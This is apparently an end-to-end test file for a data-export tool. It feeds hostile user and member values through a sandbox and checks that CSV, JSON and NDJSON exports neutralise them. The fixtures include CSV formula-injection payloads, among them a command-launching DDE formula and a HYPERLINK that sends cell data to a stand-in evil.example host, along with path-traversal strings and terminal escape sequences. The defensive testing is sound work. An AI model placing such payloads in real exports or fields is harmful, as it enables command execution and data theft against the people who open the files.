/**
 * Hostile values put in through the sandbox's control API come out of an export without a crash
 * and without an unsafe cell: formula cells neutralised, a 1 MB name intact, lone surrogates
 * (text that is not valid UTF-16) written as valid UTF-8, and path-like names kept as data, every
 * file inside the snapshot folder. `rollcall verify` agrees with what was written.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { type Sandbox, startSandbox } from '@rollcall/sandbox';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { describeRun, ENTITIES, gitBookEnv, rollcall, sandboxEnv, temporaryDir } from '../e2e/support.js';
import { control } from '../support/sandbox-control.js';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n', '\u0000'];
const MEGABYTE = 1024 * 1024;

interface Hostile {
  readonly email: string;
  readonly firstName: string;
  readonly lastName: string;
  readonly title: string;
}

const HOSTILE: ReadonlyArray<Hostile> = [
  {
    email: '=cmd@evil.example',
    firstName: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    lastName: '@SUM(1+1)*cmd|" /C calc"!A0',
    title: '+1-2',
  },
  { email: 'big@evil.example', firstName: 'A'.repeat(MEGABYTE), lastName: `=${'B'.repeat(MEGABYTE)}`, title: '-' },
  {
    email: 'surrogates@evil.example',
    firstName: 'lone \uD800 high',
    lastName: '\uDC00 lone low',
    title: '\uDFFF\uD800',
  },
  { email: 'paths@evil.example', firstName: '../../etc/passwd', lastName: 'C:\\x', title: '..\\..\\windows\\win.ini' },
  { email: 'controls@evil.example', firstName: '\u0000\u0001\u001b[31m', lastName: '\r\n\r\n', title: '\t=1' },
];

/** What UTF-8 makes of a string: lone surrogates become U+FFFD. */
const asUtf8 = (text: string) => Buffer.from(text, 'utf8').toString('utf8');
const neutralised = (value: string) => (TRIGGERS.includes(value[0] ?? '') ? `'${value}` : value);

let sandbox: Sandbox;
let parent: string;
let out: string;
const ids = new Map<string, string>();

beforeAll(async () => {
  sandbox = await startSandbox({ seed: 'hostile', users: 5, workspaces: 2, gitbook: { members: 4, inviteLinks: 3 } });
  const [workspace] = await workspaces(sandbox);
  for (const user of HOSTILE) {
    const created = await control<{ id: string; roleId: string }>(sandbox, 'POST', '/users', user);
    ids.set(user.email, created.id);
    // In a workspace too, so the hostile email reaches the memberships file by the join.
    const roles = await api<Array<{ id: string }>>(sandbox, `/organizations/workspaces/${workspace!.id}/roles`);
    await control(sandbox, 'PUT', `/workspaces/${workspace!.id}/memberships/${created.id}`, { roleId: roles[0]!.id });
  }
  parent = temporaryDir();
  out = join(parent, 'snap');
  const result = await rollcall(['export', '--log-level', 'debug', '--out', out, '--format', 'csv,json,ndjson'], {
    env: sandboxEnv(sandbox),
  });
  expect(result.code, describeRun(result).slice(0, 4000)).toBe(0);
}, 120_000);
afterAll(() => sandbox?.close());

async function api<A>(sandbox: Sandbox, path: string): Promise<A> {
  const response = await fetch(`${sandbox.url}${path}`, { headers: { Authorization: sandbox.token } });
  expect(response.status).toBe(200);
  return (await response.json()) as A;
}

async function workspaces(sandbox: Sandbox) {
  return api<Array<{ id: string }>>(sandbox, '/organizations/workspaces');
}

const csv = (entity: string): Array<Record<string, string>> =>
  parse(readFileSync(join(out, `${entity}.csv`)), { columns: true, record_delimiter: '\r\n' });

describe('hostile values in TransactionLink users', () => {
  it('stay inside the snapshot folder: the usual files and nothing else, nothing beside it', () => {
    expect(readdirSync(parent)).toEqual(['snap']);
    const expected = [
      'manifest.json',
      ...ENTITIES.flatMap((entity) => ['csv', 'json', 'ndjson'].map((format) => `${entity}.${format}`)),
    ].sort();
    expect(readdirSync(out).sort()).toEqual(expected);
  });

  it('leave no CSV cell a spreadsheet would run, and are written as valid UTF-8', () => {
    const utf8 = new TextDecoder('utf-8', { fatal: true });
    for (const entity of ENTITIES) {
      const bytes = readFileSync(join(out, `${entity}.csv`));
      expect(() => utf8.decode(bytes), entity).not.toThrow();
      for (const record of csv(entity)) {
        for (const [column, cell] of Object.entries(record)) {
          expect(TRIGGERS.includes(cell[0] ?? ''), `${entity}.${column} = ${JSON.stringify(cell.slice(0, 40))}`).toBe(
            false,
          );
        }
      }
    }
  });

  it('come back from the CSV as sent, neutralised, lone surrogates as U+FFFD, a 1 MB name whole', () => {
    const users = new Map(csv('users').map((record) => [record.id, record]));
    for (const user of HOSTILE) {
      const record = users.get(ids.get(user.email)!)!;
      for (const field of ['email', 'firstName', 'lastName', 'title'] as const) {
        expect(record[field], `${user.email} ${field}`).toBe(neutralised(asUtf8(user[field])));
      }
    }
    const hostileIds = new Set(ids.values());
    const memberships = csv('workspace-memberships').filter((record) => hostileIds.has(record.userId!));
    expect(memberships.map((record) => record.email).sort()).toEqual(
      HOSTILE.map((user) => neutralised(user.email)).sort(),
    );
  });

  it('come back from JSON and NDJSON exactly, lone surrogates included', () => {
    const json = JSON.parse(readFileSync(join(out, 'users.json'), 'utf8')) as Array<Record<string, unknown>>;
    const ndjson = readFileSync(join(out, 'users.ndjson'), 'utf8')
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    for (const rows of [json, ndjson]) {
      const byId = new Map(rows.map((row) => [row.id, row]));
      for (const user of HOSTILE) expect(byId.get(ids.get(user.email)!)).toMatchObject(user);
    }
  });

  it('are counted in the manifest and verify as intact', async () => {
    const manifest = JSON.parse(readFileSync(join(out, 'manifest.json'), 'utf8'));
    const hostileTriggers = HOSTILE.flatMap((user) => Object.values(user)).filter((value) =>
      TRIGGERS.includes(value[0] ?? ''),
    ).length;
    expect(manifest.csv.neutralisedCells['users.csv']).toBeGreaterThanOrEqual(hostileTriggers);
    const verify = await rollcall(['verify', out]);
    expect(verify.code, describeRun(verify)).toBe(0);
    expect(verify.stdout).toMatch(/^intact: /);
  });
});

describe('hostile values in GitBook member names and emails', () => {
  const MEMBERS: ReadonlyArray<{ email: string; displayName: string }> = [
    { email: '=cmd@evil.example', displayName: '=HYPERLINK("http://evil.example","x")' },
    { email: 'big.member@evil.example', displayName: `@${'N'.repeat(MEGABYTE)}` },
    { email: 'lone.surrogate@evil.example', displayName: 'half \uD83D of an emoji' },
    { email: 'path.member@evil.example', displayName: '../../../../tmp/pwned' },
    { email: 'windows.member@evil.example', displayName: 'C:\\Windows\\System32' },
  ];
  let gitbookOut: string;
  let gitbookParent: string;
  const memberIds = new Map<string, string>();

  beforeAll(async () => {
    for (const member of MEMBERS) {
      const created = await control<{ id: string }>(sandbox, 'POST', '/gitbook/members', member);
      memberIds.set(member.email, created.id);
    }
    gitbookParent = temporaryDir();
    gitbookOut = join(gitbookParent, 'snap');
    const result = await rollcall(
      ['export', '--log-level', 'debug', '--source', 'gitbook', '--out', gitbookOut, '--format', 'csv,json'],
      { env: gitBookEnv(sandbox) },
    );
    expect(result.code, describeRun(result).slice(0, 4000)).toBe(0);
  }, 120_000);

  it('come back neutralised and as valid UTF-8 from the CSV, exactly from JSON, inside the snapshot folder', () => {
    expect(readdirSync(gitbookParent)).toEqual(['snap']);
    expect(readdirSync(gitbookOut).sort()).toEqual(
      ['invite-links.csv', 'invite-links.json', 'manifest.json', 'members.csv', 'members.json'].sort(),
    );
    const bytes = readFileSync(join(gitbookOut, 'members.csv'));
    expect(() => new TextDecoder('utf-8', { fatal: true }).decode(bytes)).not.toThrow();
    const records = parse(bytes, { columns: true, record_delimiter: '\r\n' }) as Array<Record<string, string>>;
    for (const record of records) {
      for (const [column, cell] of Object.entries(record)) {
        expect(TRIGGERS.includes(cell[0] ?? ''), `members.${column}`).toBe(false);
      }
    }
    const byId = new Map(records.map((record) => [record.id, record]));
    const json = new Map(
      (JSON.parse(readFileSync(join(gitbookOut, 'members.json'), 'utf8')) as Array<Record<string, unknown>>).map(
        (row) => [row.id, row],
      ),
    );
    for (const member of MEMBERS) {
      const id = memberIds.get(member.email)!;
      expect(byId.get(id)?.displayName).toBe(neutralised(asUtf8(member.displayName)));
      expect(byId.get(id)?.email).toBe(neutralised(member.email));
      expect(json.get(id)).toMatchObject(member);
    }
  });
});
